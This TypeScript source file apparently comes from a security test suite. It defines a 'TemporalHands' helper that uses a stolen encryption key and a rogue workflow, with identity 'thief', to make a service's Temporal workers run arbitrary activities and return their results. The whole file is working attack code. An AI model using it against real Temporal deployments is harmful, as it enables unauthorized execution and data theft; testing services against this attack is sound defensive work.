import { randomUUID } from 'node:crypto';
import type { WorkflowClient } from '@temporalio/client';
import { defaultPayloadConverter, type Payload } from '@temporalio/common';
import { createPayloadCodec } from '../../platform/payload-codec';
import { createTemporalClient } from '../../platform/temporal-client';

const PATIENCE_MS = 30_000;

/** Makes the workers of the service run activities with chosen arguments, from a workflow of the attacker. */
export type TemporalHands = {
  /** The result of the activity, or a word for the way in which the activity ended. */
  readonly run: (taskQueue: string, activity: string, args: readonly unknown[]) => Promise<unknown>;
  readonly workflow: WorkflowClient;
  readonly close: () => Promise<void>;
};

export function createTemporalHands(address: string, namespace: string, dataKey: Uint8Array): TemporalHands {
  const client = createTemporalClient({ connectionOptions: { address, tls: null }, namespace } as never, dataKey);
  const codec = createPayloadCodec(dataKey, namespace);
  const { workflowService } = client;

  const run: TemporalHands['run'] = async (taskQueue, activity, args) => {
    const [own, workflowId] = [`mine-${randomUUID()}`, `mine-${randomUUID()}`];
    await client.workflow.start('mine', { workflowId, taskQueue: own });
    const next = () =>
      client.withDeadline(Date.now() + PATIENCE_MS, () =>
        workflowService.pollWorkflowTaskQueue({ namespace, taskQueue: { name: own }, identity: 'thief' }),
      );
    const { taskToken } = await next();
    const payloads = await codec.encode(args.map((arg) => defaultPayloadConverter.toPayload(arg)));
    const seconds = (count: number) => ({ seconds: count as never });
    await workflowService.respondWorkflowTaskCompleted({
      namespace,
      taskToken,
      identity: 'thief',
      commands: [
        {
          commandType: 1,
          scheduleActivityTaskCommandAttributes: {
            activityId: '1',
            activityType: { name: activity },
            taskQueue: { name: taskQueue },
            input: { payloads },
            scheduleToCloseTimeout: seconds(20),
            startToCloseTimeout: seconds(20),
            retryPolicy: { maximumAttempts: 1 },
          },
        },
      ],
    });
    const { history } = await next();
    await client.workflow.getHandle(workflowId).terminate();
    for (const event of history?.events ?? []) {
      const [done] = event.activityTaskCompletedEventAttributes?.result?.payloads ?? [];
      if (event.activityTaskCompletedEventAttributes) {
        const [plain] = done ? await codec.decode([done as Payload]) : [];
        return plain && defaultPayloadConverter.fromPayload(plain);
      }
      if (event.activityTaskFailedEventAttributes) return 'Failed';
      if (event.activityTaskTimedOutEventAttributes) return 'TimedOut';
    }
    return 'Unknown';
  };
  return { run, workflow: client.workflow, close: () => client.connection.close() };
}
